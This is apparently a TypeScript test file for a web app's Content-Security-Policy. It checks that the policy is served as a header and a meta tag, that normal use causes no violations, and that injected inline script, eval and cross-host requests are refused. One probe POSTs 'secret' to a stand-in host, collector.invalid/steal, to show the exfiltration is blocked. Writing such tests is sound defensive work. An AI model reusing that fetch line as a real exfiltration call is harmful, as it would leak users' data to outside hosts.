// The Content-Security-Policy: served as a header and as a <meta> tag, nothing in the app breaks
// it while in use, and it does what it is for: injected inline script does not run, eval is
// refused, and the page cannot send data to a host that is not the app or a model host.
import { resolve } from "node:path";
import { expect, test } from "vitest";
import { createServer } from "vite";
import type { BrowserContext, ConsoleMessage, Page } from "playwright-core";
import { contentSecurityPolicy } from "../../vite.config";
import { appUrl, newPage, setupBrowser } from "./browser";

const browser = setupBrowser();
const TABS = ["Library", "Ask", "Models", "Lab"] as const;

interface Violation {
  directive: string;
  blocked: string;
}

declare global {
  interface Window {
    __cspViolations?: Violation[];
    __inlineScriptRan?: boolean;
  }
}

/** Collects securitypolicyviolation events in the page from its first script on. */
async function watchViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      window.__cspViolations?.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
    });
  });
}

async function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => window.__cspViolations ?? []);
}

/** Console lines about CSP from the page, its workers and the service worker. */
function cspConsole(context: BrowserContext, page: Page): string[] {
  const lines: string[] = [];
  const listen = (message: ConsoleMessage) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) lines.push(message.text());
  };
  page.on("console", listen);
  page.on("worker", (worker) => worker.on("console", listen));
  context.on("serviceworker", (worker) => worker.on("console", listen));
  for (const worker of context.serviceWorkers()) worker.on("console", listen);
  return lines;
}

test("the policy arrives as a header on the document and the workers, and as a meta tag", async () => {
  const { page } = await newPage(browser());
  const response = await page.goto(appUrl());
  const header = (await response?.allHeaders())?.["content-security-policy"];
  expect(header).toBe(contentSecurityPolicy("header"));
  for (const directive of [
    "default-src 'self'",
    "script-src 'self' 'wasm-unsafe-eval'",
    "style-src 'self'",
    "object-src 'none'",
    "frame-ancestors 'none'",
  ]) {
    expect(header).toContain(directive);
  }
  expect(header).not.toContain("unsafe-inline");
  expect(header).not.toContain("'unsafe-eval'");

  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(meta).toBe(contentSecurityPolicy("meta"));
  expect(meta).not.toContain("frame-ancestors"); // ignored (with a warning) in <meta>

  // Workers take their policy from their own response, not from the page.
  const sw = await page.request.get(appUrl("sw.js"));
  expect(sw.headers()["content-security-policy"]).toBe(contentSecurityPolicy("header"));
  const scripts = await page.evaluate(() => performance.getEntriesByType("resource").map((entry) => entry.name));
  const script = scripts.find((url) => url.endsWith(".js"));
  expect(script).toBeDefined();
  const asset = await page.request.get(script ?? "");
  expect(asset.headers()["content-security-policy"]).toBe(contentSecurityPolicy("header"));
  // Cross-origin isolation stays on beside the policy.
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
});

test("using the app reports no policy violation", async () => {
  const { context } = browser();
  const { page, consoleErrors } = await newPage(browser());
  await watchViolations(page);
  const cspLines = cspConsole(context, page);
  await page.goto(appUrl());
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
  });
  await page.reload();

  for (const label of TABS) {
    await page.getByRole("tab", { name: label }).click();
    await expect.poll(() => page.getByRole("tab", { selected: true }).textContent()).toBe(label);
    if (label === "Models") await page.getByTestId("system-report").waitFor();
  }
  // Ingest a text file: the ingest worker, its tokenizer and IndexedDB run under the policy.
  await page.getByRole("tab", { name: "Library" }).click();
  await page.getByTestId("file-input").setInputFiles([
    { name: "csp-notes.txt", mimeType: "text/plain", buffer: Buffer.from("A short note.\n\nIt has two paragraphs.") },
  ]);
  const card = page.locator('[data-testid=job-card][data-file-name="csp-notes.txt"]');
  await expect.poll(() => card.getAttribute("data-status"), { timeout: 60_000 }).toBe("done");
  await page.locator('[data-testid=document-row][data-name="csp-notes.txt"]').getByTestId("document-open").click();
  await page.getByTestId("document-viewer").waitFor();

  expect(await violations(page)).toEqual([]);
  expect(cspLines).toEqual([]);
  expect(consoleErrors).toEqual([]);
});

test("injected inline script and eval do not run, and data cannot leave for another host", async () => {
  const { page } = await newPage(browser());
  await watchViolations(page);
  await page.goto(appUrl());
  await page.getByRole("tab", { name: "Library" }).waitFor();

  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.__inlineScriptRan = true;";
    document.head.append(script);
    const handler = document.createElement("img");
    handler.setAttribute("onerror", "window.__inlineScriptRan = true;");
    handler.src = "data:,not-an-image";
    document.body.append(handler);
  });
  // Give the refused image handler a moment to (not) fire.
  await page.waitForTimeout(200);
  expect(await page.evaluate(() => window.__inlineScriptRan)).toBeUndefined();

  // A blob: script is not 'self'; eval and new Function are refused (no 'unsafe-eval'). DevTools
  // lifts the eval check for the duration of an evaluate call, so the probe runs from a timer.
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.src = URL.createObjectURL(new Blob(["window.__inlineScriptRan = true;"], { type: "text/javascript" }));
    document.head.append(script);
    setTimeout(() => {
      try {
        document.body.dataset.evalProbe = String(new Function("return 'ran'")());
      } catch (error) {
        document.body.dataset.evalProbe = (error as Error).name;
      }
    }, 0);
  });
  await expect.poll(() => page.evaluate(() => document.body.dataset.evalProbe)).toBe("EvalError");

  const exfiltration = await page.evaluate(() =>
    fetch("https://collector.invalid/steal", { method: "POST", body: "secret" }).then(
      () => "sent",
      (error: Error) => error.name,
    ),
  );
  expect(exfiltration).toBe("TypeError");
  await page.waitForTimeout(200);
  expect(await page.evaluate(() => window.__inlineScriptRan)).toBeUndefined();

  const seen = (await violations(page)).map((v) => v.directive);
  expect(seen).toContain("script-src-elem");
  expect(seen).toContain("script-src-attr");
  expect(seen).toContain("script-src");
  expect(seen).toContain("connect-src");
});

test("the dev server sends the policy too, and the app runs under it", async () => {
  // Vite's HMR client and React's refresh preamble are inline: the dev policy admits them by nonce.
  const server = await createServer({
    root: resolve("."),
    configFile: resolve("vite.config.ts"),
    logLevel: "warn",
    server: { host: "127.0.0.1", port: 0, strictPort: true, open: false },
  });
  try {
    await server.listen();
    const url = server.resolvedUrls?.local[0];
    if (!url) throw new Error("vite dev server reported no URL");
    const { context } = browser();
    const { page } = await newPage(browser());
    await watchViolations(page);
    const cspLines = cspConsole(context, page);
    const response = await page.goto(url);
    expect((await response?.allHeaders())?.["content-security-policy"]).toBe(contentSecurityPolicy("header", true));
    for (const label of TABS) {
      await page.getByRole("tab", { name: label }).click({ timeout: 60_000 });
      await expect.poll(() => page.getByRole("tab", { selected: true }).textContent()).toBe(label);
    }
    // The stylesheet arrived as a nonce'd <style> element and applies.
    expect(await page.evaluate(() => getComputedStyle(document.querySelector(".topbar") as Element).display)).toBe("flex");
    expect(await violations(page)).toEqual([]);
    expect(cspLines).toEqual([]);
  } finally {
    await server.close();
  }
});
